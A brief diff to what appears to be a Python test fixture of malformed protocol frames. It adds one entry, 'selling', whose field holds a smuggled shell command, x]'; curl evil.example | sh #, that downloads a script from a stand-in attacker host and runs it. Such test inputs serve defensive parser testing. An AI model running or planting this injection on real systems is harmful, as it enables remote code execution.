@@ -17,6 +17,7 @@ _SAID: Final = {
     "endless": LENGTH.pack(MOST_FRAME + 1),
     "before": frame(Read(-5, 10)),
     "huge": frame(Read(0, MOST_READ + 1)),
+    "selling": frame(Found("well", lacks="x]'; curl evil.example | sh #")),
     "well": frame(Found("well")),
 }
 
